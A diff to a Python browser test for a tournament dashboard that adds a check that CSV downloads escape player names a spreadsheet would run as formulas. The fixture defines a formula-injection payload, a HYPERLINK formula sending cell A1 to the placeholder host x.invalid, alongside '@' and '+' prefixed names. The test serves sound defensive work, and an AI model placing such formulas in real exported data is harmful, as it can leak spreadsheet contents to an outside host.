@@ -1,9 +1,13 @@
 """A tournament begun on paper carried on in the dashboard, in a real browser: rounds 1-3 imported as records,
 the organiser uploads the players' list on the Standings page, pairs round 4 there and downloads the table
-cards; the Pairings page shows every round. Screenshots at 1,400, 820 and 390 px in test-output/screenshots."""
+cards; the Pairings page shows every round and its downloads write names a spreadsheet would run as text.
+Screenshots at 1,400, 820 and 390 px in test-output/screenshots."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -14,6 +18,8 @@ from streamlit_server import SCREENSHOTS, chromium, new_page, streamlit_server
 
 pytestmark = pytest.mark.browser
 NAME = "Paper Cup"
+FORMULAS = "Formula Night"  # a tournament whose players' names a spreadsheet would run
+HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
 
 
 @pytest.fixture(scope="module")
@@ -27,6 +33,11 @@ def paper_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
     for round_no in (1, 2, 3):
         for lines in round_records(NAME, round_no):
             store.import_record(lines)
+    header = {**json.loads(round_records(FORMULAS, 1)[0][0]), "game": "formula-r1-t1",
+              "players": [{"id": "p1", "name": HYPERLINK, "faction": "orcs"},
+                          {"id": "p2", "name": "@Boris", "faction": "+sylvan"}]}
+    store.import_record([json.dumps(header), json.dumps({"type": "GameEnded", "score": {"p1": 1, "p2": 3},
+                                                         "winner": "p2", "reason": "played on paper"})])
     store.close()
     Projector(data).run()
     return data
@@ -87,3 +98,17 @@ def test_an_organiser_registers_the_list_pairs_round_four_and_prints_the_cards(s
             page.wait_for_timeout(800)
             page.get_by_role("button", name="Register the list").scroll_into_view_if_needed()
             page.screenshot(path=f"{SCREENSHOTS}/tournament-standings-organiser-{width}.png")
+
+
+def test_the_pairings_pages_downloads_write_formula_names_as_text(server: str) -> None:
+    with chromium() as browser, new_page(browser) as page:
+        page.goto(f"{server}/public?tournament=Formula+Night")
+        settled(page)
+        files = {}
+        for label in ("Pairings (CSV)", "Standings (CSV)"):
+            with page.expect_download() as download:
+                page.get_by_role("button", name=label).click()
+            files[label] = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
+    [table] = files["Pairings (CSV)"]
+    assert (table["player"], table["opponent"], table["opponent_faction"]) == ("'" + HYPERLINK, "'@Boris", "'+sylvan")
+    assert sorted(r["player"] for r in files["Standings (CSV)"]) == sorted(("'" + HYPERLINK, "'@Boris"))
